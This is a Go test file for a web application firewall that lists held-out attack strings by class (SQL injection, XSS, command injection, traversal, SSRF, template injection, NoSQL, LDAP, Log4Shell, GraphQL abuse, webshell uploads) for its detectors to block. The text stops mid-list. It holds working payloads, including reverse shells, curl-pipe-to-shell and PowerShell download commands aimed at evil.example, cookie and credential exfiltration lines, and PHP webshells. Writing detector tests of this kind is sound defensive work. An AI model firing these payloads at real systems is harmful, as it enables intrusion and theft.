package filter

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"sort"
	"strings"
	"testing"
)

// A held-out table: attacks per class written from the attack grammars and
// from how the common tools build them (sqlmap tampers, XSS polyglots, SSRF
// address spellings, template-engine probes of each engine, MongoDB operators
// in JSON, form and bracket notation, LDAP filter composition, redirect
// bypasses, Log4j lookups, traversal encodings, webshells in uploads,
// GraphQL batching, aliases and introspection), each placed where an
// attacker puts it, and benign look-alikes of each class as production
// traffic holds them. No value is taken from a corpus or another table: the
// table measures how the detectors generalise, so it is not to be tuned
// value by value. Every attack must block and no look-alike may, but the
// few listed in heldoutLimits (documented trade-offs); the per-class
// counts are logged (go test -run TestHeldout -v ./filter/ | grep HELDOUT).

// hoCase is one request of the held-out table.
type hoCase struct {
	class string
	// place is where the value travels:
	//   query, form, json  a parameter / member called name
	//   jsonraw            the whole JSON body is v (POST /api/login)
	//   qsraw              the raw query string is v (bracket names)
	//   path               the request-target is v
	//   header, cookie     a header / cookie called name
	//   file               an uploaded file called name whose content is v
	//   filename           an uploaded file whose name is v
	//   gql                a GraphQL document v (POST /graphql)
	//   gqlget             a GraphQL document v in GET /graphql?query=
	//   gqlvar             a GraphQL variable called name
	//   gqlbatch           a raw JSON body v sent to /graphql
	//   gqlraw             a GraphQL document v as application/graphql
	//   gqlupload          a GraphQL document v in the operations field of
	//                      a multipart upload (the GraphQL upload spec)
	place string
	name  string
	v     string
}

func (c hoCase) String() string { return fmt.Sprintf("%s %s[%s]=%q", c.class, c.place, c.name, c.v) }

// request builds the case's request and, for raw request-targets, the URI
// as the client sent it.
func (c hoCase) request() (*http.Request, RequestInfo) {
	const site = "http://app.example.com"
	switch c.place {
	case "query":
		return newReq("GET", site+"/search?"+url.Values{c.name: {c.v}}.Encode(), "", "", hdrXHR...), RequestInfo{}
	case "form":
		return newReq("POST", site+"/account/update", "application/x-www-form-urlencoded", url.Values{c.name: {c.v}}.Encode(), hdrXHR...), RequestInfo{}
	case "json":
		b, _ := json.Marshal(map[string]any{c.name: c.v, "locale": "en-GB"})
		return newReq("POST", site+"/api/v1/items", "application/json", string(b), hdrXHR...), RequestInfo{}
	case "jsonraw":
		return newReq("POST", site+"/api/login", "application/json", c.v, hdrXHR...), RequestInfo{}
	case "qsraw":
		return newReq("GET", site+"/api/users?"+c.v, "", "", hdrXHR...), RequestInfo{URI: "/api/users?" + c.v}
	case "path":
		return newReq("GET", site+"/", "", "", hdrChrome...), RequestInfo{URI: c.v}
	case "header":
		return newReq("GET", site+"/", "", "", with(hdrChrome, c.name, c.v)...), RequestInfo{}
	case "cookie":
		return newReq("GET", site+"/account", "", "", with(hdrChrome, "Cookie", "lang=en; "+c.name+"="+c.v)...), RequestInfo{}
	case "file", "filename":
		fname, content := c.name, c.v
		if c.place == "filename" {
			fname, content = c.v, "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
		}
		body, ct := multipartOf([][2]string{{"title", "holiday"}}, [][4]string{{"upload", fname, "image/png", content}})
		return newReq("POST", site+"/media/upload", ct, body, hdrXHR...), RequestInfo{}
	case "gql":
		return newReq("POST", site+"/graphql", "application/json", jsonOf(map[string]any{"query": c.v}), hdrXHR...), RequestInfo{}
	case "gqlget":
		return newReq("GET", site+"/graphql?"+url.Values{"query": {c.v}}.Encode(), "", "", hdrXHR...), RequestInfo{}
	case "gqlvar":
		doc := "query Search($" + c.name + ": String) { search(term: $" + c.name + ") { id title } }"
		var vv any = c.v
		if strings.HasPrefix(c.v, "{") {
			_ = json.Unmarshal([]byte(c.v), &vv)
		}
		return newReq("POST", site+"/graphql", "application/json", jsonOf(map[string]any{"query": doc, "operationName": "Search", "variables": map[string]any{c.name: vv}}), hdrXHR...), RequestInfo{}
	case "gqlbatch":
		return newReq("POST", site+"/graphql", "application/json", c.v, hdrXHR...), RequestInfo{}
	case "gqlraw":
		return newReq("POST", site+"/graphql", "application/graphql", c.v, hdrXHR...), RequestInfo{}
	case "gqlupload":
		ops := jsonOf(map[string]any{"query": c.v, "variables": map[string]any{"file": nil}})
		body, ct := multipartOf([][2]string{{"operations", ops}, {"map", `{"0":["variables.file"]}`}}, [][4]string{{"0", "a.txt", "text/plain", "hello"}})
		return newReq("POST", site+"/graphql", ct, body, hdrXHR...), RequestInfo{}
	}
	panic("unknown place " + c.place)
}

// gqlRepeat joins n copies of f(i).
func gqlRepeat(n int, sep string, f func(i int) string) string {
	parts := make([]string, n)
	for i := range parts {
		parts[i] = f(i)
	}
	return strings.Join(parts, sep)
}

// hoTable collects the cases of a table.
type hoTable []hoCase

// add puts every value of vs, of class, in place under the name.
func (t *hoTable) add(class, place, name string, vs ...string) {
	for _, v := range vs {
		*t = append(*t, hoCase{class: class, place: place, name: name, v: v})
	}
}

func heldoutAttacks() []hoCase {
	var out hoTable
	add := out.add

	// SQL injection: sqlmap's techniques (boolean, error, time, UNION,
	// stacked) per DBMS, through its tampers (space2comment, randomcase,
	// versionedkeywords, between, charencode, space2mssqlblank), in numeric,
	// string, LIKE and parenthesised contexts.
	add("sqli", "query", "id",
		"1 AND (SELECT 7391 FROM (SELECT(SLEEP(5)))kLzq)",
		"1'/**/UNION/**/ALL/**/SELECT/**/NULL,NULL,version()--+",
		"1' AND 5021=5021 AND 'XyZq'='XyZq",
		"1 AND 2 NOT BETWEEN 0 AND 1",
		"-7291 UNION ALL SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()-- -",
		"1' AND EXTRACTVALUE(4187,CONCAT(0x5c,0x7176,(SELECT (ELT(4187=4187,1))),0x716b))-- wXyz",
		"1;WAITFOR DELAY '0:0:5'--",
		"1 AND 1=CAST((CHR(113)||CHR(118)||(SELECT version())) AS NUMERIC)",
		"1 RLIKE (SELECT (CASE WHEN (8888=8888) THEN 1 ELSE 0x28 END))",
		"1 UnIoN sElEcT 1,2,3",
		"1'/*!50000UNION*//*!50000SELECT*/1,2-- -",
		"1 AND ELT(6654=6654,SLEEP(5))",
		"1 OR 0x50=0x50",
		"1 ORDER BY 12-- -",
		"1\tUNION\tSELECT\tusername,password\tFROM\tusers#",
		"1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 0,1),1,1))>64",
		"1) AND (SELECT 2045 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT (ELT(2045=2045,1))),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a) AND (9012=9012",
	)
	add("sqli", "query", "q",
		"%' AND 4412=4412 AND '%'='",
		"') OR ('x'='x",
		"test' AND (SELECT 1 FROM pg_sleep(5)) IS NOT NULL--",
		"x' AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)--",
		"x' UNION SELECT username||':'||password FROM users--",
		"a' AND randomblob(500000000)--",
		"a' UNION SELECT sql,2 FROM sqlite_master--",
	)
	add("sqli", "form", "username",
		"admin'-- -",
		"' OR ''='",
		"admin' OR 1=1#",
		"x'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
		"admin'/**/OR/**/'1'='1",
	)
	add("sqli", "json", "sort",
		"(CASE WHEN (SELECT SUBSTRING(@@version,1,1))='5' THEN name ELSE price END)",
		"id,(SELECT 1 FROM (SELECT SLEEP(3))x)",
	)
	add("sqli", "header", "X-Forwarded-For", "127.0.0.1' AND SLEEP(5)#")
	add("sqli", "cookie", "uid", "42' OR '1'='1")
	add("sqli", "json", "email", "a@b.c' AND GTID_SUBSET(CONCAT(0x7e,(SELECT @@version)),1)-- -")

	// XSS: handlers on every kind of element, script URIs through entities
	// and control characters, mutation XSS, polyglots, script-string
	// break-outs, AngularJS sandbox escapes.
	add("xss", "query", "q",
		"<svg/onload=alert(1)>",
		"\"><img src=x onerror=alert(document.domain)>",
		"'\"><script>alert(1)</script>",
		"<details open ontoggle=alert(1)>",
		"<body onpageshow=alert(1)>",
		"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
		"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
		"<a href=\"javas&#x09;cript:alert(1)\">x</a>",
		"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
		"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
		"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
		"<input autofocus onfocus=alert(1)>",
		"<video><source onerror=alert(1)>",
		"\"-alert(1)-\"",
		"';alert(String.fromCharCode(88,83,83))//",
		"</script><svg onload=alert(1)>",
		"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
		"<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>X</text></a></svg>",
		"{{constructor.constructor('alert(1)')()}}",
		"<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>",
		"<marquee onstart=alert(1)>",
		"<form><button formaction=javascript:alert(1)>X",
		"<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
		"%3Csvg%20onload%3Dalert(1)%3E",
		"<img src=1 onerror=window['al'+'ert'](1)>",
		"<a href=javascript&colon;alert&lpar;1&rpar;>x",
		"<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
		"<!--<img src=\"--><img src=x onerror=alert(1)//\">",
		"<svg><script>alert&#40;1&#41;</script>",
		"<xss onpointerenter=alert(1) style=display:block>hover",
	)
	add("xss", "json", "comment",
		"<img src=x onerror=fetch('//evil.example/?c='+document.cookie)>",
		"<script src=//evil.example/x.js></script>",
		"<base href=//evil.example/>",
	)
	add("xss", "form", "website", "javascript:alert(document.cookie)", "java\tscript:alert(1)")
	add("xss", "header", "Referer", "https://app.example.com/\"><script>alert(1)</script>")
	add("xss", "cookie", "theme", "dark\"><svg onload=alert(1)>")

	// Command injection: a separator, then a command with or without
	// arguments, line breaks, substitution, $IFS and quote splitting,
	// globs, reverse shells, Windows cmd and PowerShell.
	add("rce", "query", "host",
		";id",
		"|id",
		"&& whoami",
		"$(id)",
		"`id`",
		"127.0.0.1;cat /etc/passwd",
		"127.0.0.1|nc -e /bin/sh 10.0.0.1 4444",
		"8.8.8.8\nid",
		";uname${IFS}-a",
		"|| ping -c 10 127.0.0.1",
		"a;curl http://evil.example/x.sh|sh",
		";wget -qO- evil.example/s|bash",
		"$(curl${IFS}evil.example)",
		";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		"; python -c 'import socket,os;s=socket.socket();s.connect((\"10.0.0.1\",4444))'",
		"| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"",
		"& ping -n 5 127.0.0.1 &",
		"| type C:\\Windows\\win.ini",
		";/bin/ca? /et?/pass??",
		";c\\at /et\\c/pas\\swd",
		";{cat,/etc/passwd}",
		";sleep 5",
		"|sleep 5",
		";ls -la",
		"x||whoami",
		";nslookup evil.example",
		"$(sleep 5)",
		";echo${IFS}aWQ=|base64${IFS}-d|sh",
		";uname",
		"|whoami",
		";hostname",
		"&ver&",
		";/usr/bin/id",
		"127.0.0.1%0acat%20/etc/passwd",
		"127.0.0.1 && id",
		"1;$(printf 'id')",
	)
	add("rce", "json", "filename", "report.pdf; ncat 10.0.0.1 4444 -e /bin/bash", "x.png`whoami`")
	add("rce", "header", "User-Agent", "() { :;}; /bin/bash -c 'id'")
	add("rce", "form", "ip", "10.0.0.1 | dir c:\\")

	// Traversal and file inclusion: dot segments in every encoding,
	// filter-stripping bypasses, stream wrappers, absolute system paths.
	add("lfi", "query", "file",
		"../../../../etc/passwd",
		"....//....//....//etc/passwd",
		"..%2f..%2f..%2fetc%2fpasswd",
		"%2e%2e%2f%2e%2e%2fetc%2fpasswd",
		"..%252f..%252fetc%252fpasswd",
		"..%c0%af..%c0%afetc%c0%afpasswd",
		"/etc/passwd%00.png",
		"..\\..\\..\\windows\\win.ini",
		"..%5c..%5cwindows%5cwin.ini",
		"php://filter/convert.base64-encode/resource=index.php",
		"php://filter/read=string.rot13/resource=config",
		"pHp://FilTer/convert.base64-encode/resource=/etc/passwd",
		"file:///etc/passwd",
		"/proc/self/environ",
		"/proc/self/fd/3",
		"../../../../var/log/apache2/access.log",
		"C:\\boot.ini",
		"C:/Windows/System32/drivers/etc/hosts",
		"expect://id",
		"zip://uploads/a.jpg%23shell",
		"phar://uploads/a.jpg/x.php",
		"data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
		"..././..././..././etc/passwd",
		"/var/www/../../etc/shadow",
		"%2e%2e/%2e%2e/%2e%2e/etc/passwd",
		"..%u2215..%u2215etc%u2215passwd",
		"~/.ssh/id_rsa",
		"../../../../root/.bash_history",
		"..//..//..//etc//passwd",
		"/etc/passwd",
		"\\\\10.0.0.1\\share\\x.php",
	)
	add("lfi", "path", "",
		"/static/..%2f..%2f..%2fetc/passwd",
		"/download/..%5c..%5cwindows%5cwin.ini",
		"/img/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
	)
	add("lfi", "cookie", "lang", "../../../../etc/passwd%00")
	add("lfi", "json", "template", "../../../../../proc/self/cmdline")

	// Sensitive files and admin surfaces requested by path: VCS metadata,
	// secrets, editor leftovers, backups and dumps, Java's protected
	// directories through the path-parameter and encoded-dot bypasses,
	// debug endpoints.
	add("path", "path", "",
		"/.git/config",
		"/.git/HEAD",
		"/.git/index",
		"/.git/logs/HEAD",
		"/.git/refs/heads/main",
		"/.svn/entries",
		"/.svn/wc.db",
		"/.hg/hgrc",
		"/.bzr/branch-format",
		"/CVS/Entries",
		"/.env",
		"/.env.production",
		"/app/.env.bak",
		"/backup.zip",
		"/backup.tar.gz",
		"/site.tar.gz",
		"/db.sql",
		"/dump.sql",
		"/database.sql.gz",
		"/backup/2024-01-01.sql",
		"/wp-config.php.bak",
		"/wp-config.php~",
		"/.config.php.swp",
		"/index.php.old",
		"/WEB-INF/web.xml",
		"/app/%2e/WEB-INF/web.xml",
		"/app/..;/WEB-INF/web.xml",
		"/;/WEB-INF/web.xml",
		"/META-INF/MANIFEST.MF",
		"/.DS_Store",
		"/.htpasswd",
		"/.aws/credentials",
		"/server-status",
		"/phpinfo.php",
		"/actuator/env",
		"/actuator/heapdump",
		"/.GIT/config",
		"/static/..%2f.git/config",
		"/.vscode/sftp.json",
		"/.npmrc",
		"/.idea/workspace.xml",
		"/web.config.bak",
		"/www.zip",
		"/elmah.axd",
		"/.env.save",
		"/db_backup.sql.bz2",
	)

	// SSRF: metadata services of each cloud, loopback and private ranges in
	// every spelling parsers accept, parser-confusion URLs, internal names,
	// fetch schemes.
	add("ssrf", "json", "url",
		"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
		"http://[::ffff:169.254.169.254]/",
		"http://2852039166/",
		"http://0xa9fea9fe/",
		"http://0251.0376.0251.0376/",
		"http://metadata.google.internal/computeMetadata/v1/",
		"http://100.100.100.200/latest/meta-data/",
		"http://127.0.0.1:6379/",
		"http://localhost:8080/admin",
		"http://127.1/",
		"http://[::1]/",
		"http://[0:0:0:0:0:ffff:127.0.0.1]/",
		"gopher://127.0.0.1:6379/_SET%20x%20y",
		"dict://127.0.0.1:11211/stats",
		"file:///etc/passwd",
		"http://evil.example@127.0.0.1/",
		"http://127.0.0.1#@evil.example/",
		"http://kubernetes.default.svc/api/v1/secrets",
		"http://①②⑦.⓪.⓪.①/",
		"http://169.254.170.2/v2/credentials",
		"http://[fd00:ec2::254]/latest/meta-data/",
		"http://instance-data/latest/meta-data/",
		"http://0.0.0.0:22/",
		"netdoc:///etc/passwd",
		"http://127.0.0.1:2375/containers/json",
		"http://0177.0.0.1/",
		"http://2130706433/",
		"http://metadata/computeMetadata/v1/",
	)
	add("ssrf", "query", "webhook", "http://10.0.0.5:8500/v1/kv/", "http://192.168.1.1/admin")
	add("ssrf", "form", "image_url", "http://172.16.0.1/", "jar:http://evil.example!/x")
	add("ssrf", "json", "callback_url", "http://169.254.169.254.nip.io/")

	// Open redirect: protocol-relative and backslash hosts, missing or
	// extra slashes, whitespace and control characters, user-info,
	// look-alike dots, script URIs.
	add("redirect", "query", "next",
		"//evil.example",
		"///evil.example",
		"////evil.example/",
		"/\\evil.example",
		"\\/evil.example",
		"https:evil.example",
		"https:/evil.example",
		"/%09/evil.example",
		"/%5cevil.example",
		"https://app.example.com@evil.example",
		"javascript:alert(1)",
		"java%0d%0ascript:alert(1)",
		"//google.com%2f@evil.example",
		"//evil%E3%80%82example",
		"%2F%2Fevil.example",
		" //evil.example",
		"%0d%0a//evil.example",
		"https:///evil.example",
		"/\\/evil.example",
		"//\tevil.example",
		"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
		"http://evil.example%23.app.example.com/",
		"https://evil.example\\.app.example.com",
		"//evil.example\\@app.example.com",
	)
	add("redirect", "query", "returnUrl", "//evil.example/%2f..", "/%2F%2Fevil.example")
	add("redirect", "query", "redirect_uri", "https://app.example.com%40evil.example")
	add("redirect", "form", "continue", "\\\\evil.example", "http:\\\\evil.example")
	add("redirect", "query", "return_to", "https://app.example.com.evil.example/")

	// Template injection, engine by engine.
	add("ssti", "query", "name",
		"{{7*'7'}}",
		"{{config.items()}}",
		"{{''.__class__.__mro__[1].__subclasses__()}}",
		"{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
		"{{cycler.__init__.__globals__.os.popen('id').read()}}",
		"{{lipsum.__globals__['os'].popen('id').read()}}",
		"{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
		"{{request|attr('__class__')}}",
		"{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
		"{{['id']|filter('system')}}",
		"{{['cat /etc/passwd']|map('passthru')|join}}",
		"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
		"${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
		"#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
		"$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
		"{php}echo `id`;{/php}",
		"{system('id')}",
		"{$smarty.version}",
		"<%= system('id') %>",
		"<%= File.open('/etc/passwd').read %>",
		"${T(java.lang.Runtime).getRuntime().exec('id')}",
		"__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
		"*{T(java.lang.System).getenv()}",
		"#{7*7}",
		"${self.module.cache.util.os.system(\"id\")}",
		"<% import os; x=os.popen('id').read() %>${x}",
		"{{#with this as |obj|}}{{obj.constructor.constructor \"return process\"}}{{/with}}",
		"#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}",
		"{% import os %}{{ os.popen('id').read() }}",
		"@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
		"{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
		"${7*7}",
		"${{7*7}}",
		"{{=7*7}}",
		"%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
		"${applicationScope}",
	)
	add("ssti", "json", "template", "Hello {{ self.__init__.__globals__.__builtins__ }}", "{{ get_flashed_messages.__globals__ }}")

	// NoSQL injection: operators as JSON keys, bracket names in query and
	// form, JavaScript in $where and broken-out strings.
	add("nosql", "jsonraw", "",
		`{"username":{"$ne":null},"password":{"$ne":null}}`,
		`{"username":"admin","password":{"$gt":""}}`,
		`{"username":{"$regex":"^adm"},"password":{"$regex":".*"}}`,
		`{"$where":"this.password.length > 0"}`,
		`{"username":{"$in":["admin","root"]},"password":{"$exists":true}}`,
		`{"username":{"$nin":[""]},"password":{"$nin":[""]}}`,
		`{"filter":{"$expr":{"$eq":[1,1]}}}`,
		`{"q":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}`,
		`{"password":{"$not":{"$eq":"x"}},"username":"admin"}`,
		`{"username":"admin","$or":[{"password":{"$exists":false}},{"password":{"$ne":"x"}}]}`,
		`{"username":"admin","password":{"$regex":"^a.*"}}`,
		`{"$where":"sleep(5000) || true"}`,
	)
	add("nosql", "qsraw", "",
		"username[$ne]=x&password[$ne]=x",
		"user[$regex]=.*&pass[$regex]=.*",
		"login=admin&password[$gt]=",
		"login[$exists]=true",
		"a[$where]=sleep(5000)",
		"username%5B%24ne%5D=x&password%5B%24ne%5D=x",
		"filter=%7B%22password%22%3A%7B%22%24ne%22%3Anull%7D%7D",
	)
	add("nosql", "form", "password", "' || '1'=='1", "'; return true; var x='", "' && this.password.match(/.*/)//", "0;return true", "'||1==1//")
	add("nosql", "query", "id", "1; sleep(5000)")
	add("nosql", "gqlvar", "where", `{"password":{"$ne":null}}`)

	// LDAP filter injection: closing the caller's filter and composing
	// another, wildcards, extensible matches, NUL truncation, encoded.
	add("ldap", "form", "user",
		"admin)(&)",
		"admin)(|(password=*))",
		"*)(uid=*))(|(uid=*",
		"admin*)((|userPassword=*)",
		"*)(objectClass=*",
		"x)(|(objectClass=*)",
		"*))%00",
		"admin)(!(&(1=0)))",
		"*)(|(cn=*)",
		")(cn=*))(|(cn=*",
		"admin)(userPassword=a*",
		"*)(&(password=*)",
		"*)(uid=*",
		"admin))(|(uid=*",
		"x*)(|(memberOf=cn=admins,ou=groups,dc=example,dc=com)",
		"*)(userAccountControl:1.2.840.113556.1.4.803:=2",
		"%2A%29%28%7C%28objectClass%3D%2A%29",
		"admin)(description=*",
		"*)(sn~=admin",
		"j*)(|(cn=*",
		")(|(objectclass=*",
	)
	add("ldap", "query", "q", "*(|(mail=*))", "(&(uid=admin)(userPassword=*))", "*)(mail=*@*")
	add("ldap", "json", "username", "admin)(|(objectClass=*")

	// Log4Shell: lookups in every header a logger records, with the
	// resolver's obfuscations.
	add("jndi", "header", "User-Agent",
		"${jndi:ldap://evil.example/a}",
		"${jndi:rmi://evil.example:1099/a}",
		"${jndi:dns://evil.example/a}",
		"${${lower:j}ndi:${lower:l}dap://evil.example/a}",
		"${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://evil.example/}",
		"${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}",
		"${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//evil.example/a}",
		"${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
		"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
		"${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}",
		"${jn${lower:d}i:l${lower:d}ap://evil.example/a}",
		"${jndi:ldaps://evil.example/a}",
		"${jndi:iiop://evil.example/a}",
		"${jndi:nis://evil.example/a}",
		"${jndi:corba://evil.example/a}",
		"${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
		"${${sys:foo:-j}ndi:ldap://evil.example/a}",
		"${jndi:ldap://127.0.0.1#evil.example:1389/a}",
		"${sys:java.version}",
		"${jndi:ldap://evil.example/${hostName}}",
		"${j${::-n}di:ldap://evil.example/a}",
		"${jnd${upper:ı}:ldap://evil.example/a}",
		"${${main:x:-j}ndi:ldap://evil.example/a}",
	)
	add("jndi", "header", "X-Api-Version", "${jndi:ldap://evil.example/x}", "${env:AWS_ACCESS_KEY_ID}")
	add("jndi", "header", "X-Forwarded-For", "${jndi:ldap://evil.example/a}")
	add("jndi", "query", "q", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "$%7Bjndi:ldap://evil.example/a%7D")
	add("jndi", "json", "name", "${jndi:ldap://evil.example/a}", "${\\u006a\\u006e\\u0064\\u0069:ldap://evil.example/a}")
	add("jndi", "cookie", "tracking", "${jndi:ldap://evil.example/c}")

	// GraphQL: introspection in its disguises, alias and array batching,
	// depth, directive and field duplication, fragment cycles, injections
	// in arguments and variables.
	add("graphql", "gql", "",
		"{__schema{types{name fields{name}}}}",
		"query IntrospectionQuery { __schema { queryType { name } mutationType { name } } }",
		"{__type(name:\"User\"){fields{name type{name}}}}",
		"query { a: __schema { types { name } } }",
		"{ ... on Query { __schema { types { name } } } }",
		"fragment f on Query { __schema { types { name } } } query { ...f }",
		"query{__schema\n{types{name}}}",
		"{ __schema # comment\n { types { name } } }",
		"{ x: __type(name: \"Query\") { name } }",
		"mutation { "+gqlRepeat(60, " ", func(i int) string { return fmt.Sprintf("a%d: login(user:\"admin\", pass:\"pw%04d\") { token }", i, i) })+" }",
		"query { "+strings.Repeat("a { ", 25)+"id"+strings.Repeat(" }", 25)+" }",
		"query { me "+strings.Repeat("@include(if: true) ", 50)+"{ id } }",
		"query { me { "+strings.Repeat("id ", 200)+"} }",
		"fragment A on User { name ...B } fragment B on User { id ...A } query { me { ...A } }",
		gqlRepeat(30, " ", func(i int) string { return fmt.Sprintf("query Q%d { me { id } }", i) }),
		"{ user(id: \"1 UNION SELECT password FROM users--\") { name } }",
		"mutation { importFeed(url: \"http://169.254.169.254/latest/meta-data/\") { ok } }",
		"{ file(path: \"../../../../etc/passwd\") { content } }",
		"mutation { ping(host: \"127.0.0.1; id\") { output } }",
		"mutation { addComment(body: \"<script>alert(1)</script>\") { id } }",
		"query { users(filter: \"{\\\"password\\\": {\\\"$ne\\\": null}}\") { id } }",
	)
	add("graphql", "gqlget", "", "{__schema{types{name}}}", "query{"+gqlRepeat(40, " ", func(i int) string { return fmt.Sprintf("u%d:user(id:%d){email}", i, i) })+"}")
	add("graphql", "gqlbatch", "",
		"["+gqlRepeat(50, ",", func(i int) string {
			return fmt.Sprintf(`{"query":"mutation { login(user: \"admin\", pass: \"%04d\") { token } }"}`, i)
		})+"]",
		"["+gqlRepeat(25, ",", func(i int) string { return fmt.Sprintf(`{"query":"query Q%d { me { id } }"}`, i) })+"]",
	)
	add("graphql", "gqlvar", "term", "1' OR '1'='1", "${jndi:ldap://evil.example/g}", "{{7*7}}")

	// Uploads: webshells in file content (also behind image magic bytes),
	// script extensions and the parser tricks of web servers.
	add("upload", "file", "avatar.png",
		"GIF89a<?php eval($_POST['x']); ?>",
		"\x89PNG\r\n\x1a\n<?=`$_GET[0]`?>",
		"<?php @eval(base64_decode($_POST['z'])); ?>",
		"<?php $f=$_GET['f'];$f($_GET['c']); ?>",
		"<?php passthru($_REQUEST['c']); ?>",
		"<?php echo shell_exec($_GET['e']); ?>",
		"<?php assert($_POST['a']); ?>",
		"<?php include($_GET['p']); ?>",
		"<? system($_GET[c]) ?>",
		"<script language=\"php\">system($_GET['c']);</script>",
		"<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
		"<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
		"<%eval request(\"x\")%>",
		"<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\",\"/c \"+Request[\"c\"]); %>",
		"<?php $a=str_rot13('flfgrz');$a($_GET['c']);?>",
		"<?php echo file_get_contents('/etc/passwd'); ?>",
		"<?php @array_map('assert',(array)$_REQUEST['x']);?>",
		"<?php $sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>",
		"<?php @$_=\"s\".\"y\".\"s\".\"t\".\"e\".\"m\"; $_($_GET['c']); ?>",
		"<?php $_=\"{\"; $_=($_^\"<\").($_^\">;\").($_^\"/\"); ?><?=${'_'.$_}['_'](${'_'.$_}['__']);?>",
		"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>",
	)
	add("upload", "file", ".htaccess", "AddType application/x-httpd-php .png")
	add("upload", "filename", "",
		"shell.php",
		"shell.pHp5",
		"shell.phtml",
		"shell.php%00.png",
		"shell.php;.png",
		"shell.asp;.jpg",
		"shell.php.",
		"../../var/www/html/shell.png",
		"cmd.jspx",
		"shell.pht",
		"shell.PhAr",
		"shell.jsp%00.jpg",
	)
	add("upload", "file", "logo.svg", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//evil.example/?'+document.cookie)</script></svg>")

	// Second round: the shapes scanners and hand-written payloads take when
	// the obvious ones are filtered.
	add("sqli", "query", "id",
		"1 AND IF(1=1,SLEEP(5),0)",
		"0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
		"if(now()=sysdate(),sleep(5),0)/*'XOR(if(now()=sysdate(),sleep(5),0))OR'\"XOR(if(now()=sysdate(),sleep(5),0))OR\"*/",
		"(select(0)from(select(sleep(5)))v)/*'+(select(0)from(select(sleep(5)))v)+'\"+(select(0)from(select(sleep(5)))v)+\"*/",
		"1;SELECT pg_sleep(5)",
		"1; IF (1=1) WAITFOR DELAY '0:0:5'--",
		"'||UTL_INADDR.GET_HOST_ADDRESS('evil.example')||'",
		"1' AND (SELECT LOAD_FILE(CONCAT('\\\\\\\\',version(),'.evil.example\\\\a')))-- -",
		"'; COPY (SELECT '') TO PROGRAM 'curl evil.example'--",
		"1' AND SUBSTR(@@version,1,1)='8",
		"' or true-- -",
		"1' or sleep(5)#",
		"admin' AND 1=0 UNION ALL SELECT 'admin','81dc9bdb52d04dc20036dbd8313ed055'-- -",
		"1 AND (SELECT 1)=1",
		"1%' ORDER BY 1#",
	)
	add("xss", "query", "q",
		"<img src=x onerror=alert`1`>",
		"<img/src/onerror=alert(1)>",
		"<svg/onload=alert&#x28;1&#x29;>",
		"<a href=\"&#106;avascript:alert(1)\">x</a>",
		"<iframe src=\"data:text/html,<script>alert(1)</script>\">",
		"<script>onerror=alert;throw 1</script>",
		"<img src=x onerror=import('//evil.example/x.js')>",
